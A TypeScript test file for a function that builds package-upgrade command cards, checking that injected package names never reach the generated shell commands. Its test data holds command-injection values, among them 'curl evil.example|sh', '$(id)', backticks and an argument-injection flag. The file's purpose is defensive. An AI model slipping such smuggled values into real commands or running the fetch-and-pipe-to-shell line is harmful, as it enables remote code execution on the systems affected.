import type { Match } from '@breakwater/exposure';
import { describe, expect, test } from 'vitest';
import { makeCard } from './card.ts';

const until = { how: 'version-in-range', end: { kind: 'fixed', version: '1.7.16-1' } };

function match(ecosystem: string, name: string, installedAs?: string): Match {
  const component = { ecosystem, name, version: '1.7.15-1', path: '/components/0' };
  const given = installedAs === undefined ? component : { ...component, installedAs };
  // Of a reason, the card reads these parts alone.
  return { inventoryId: 'inventory', component: given, reason: until } as unknown as Match;
}

function commandsFor(...matches: Match[]): string {
  const card = makeCard({
    record: { id: 'x_BW-2026-00000000', modified: '2026-11-21T00:00:00Z' },
    matches,
    inventory: 'front desk',
    due: { dueAt: null, because: 'a rule' },
    patch: null,
  });
  return card.steps.map((step) => step.command ?? '').join('\n');
}

describe('the commands of a card', () => {
  test.each([
    ['Debian:12', 'cjson', 'libcjson1; curl evil.example|sh #'],
    ['Debian:12', 'cjson', '--allow-unauthenticated'],
    ['Debian:12', 'cjson', 'a$(id)'],
    ['npm', 'ini; id', undefined],
    ['npm', '@evil/--global', undefined],
    ['npm', '`id`', undefined],
  ] as const)('carry no name of %s that a terminal would obey: %s as %s', (eco, name, as) => {
    const commands = commandsFor(match(eco, name, as), match('Debian:12', 'cjson', 'libcjson1'));
    expect(commands).not.toContain(as ?? name);
    expect(commands).toContain('--only-upgrade libcjson1\n');
  });

  test.each([
    ['npm', '@babel/core'],
    ['npm', 'JSONStream'],
    ['npm', 'lodash.template'],
    ['Debian:12', 'libstdc++6'],
  ])('carry an ordinary name of %s: %s', (ecosystem, name) => {
    expect(commandsFor(match(ecosystem, name))).toContain(` ${name}`);
  });
});
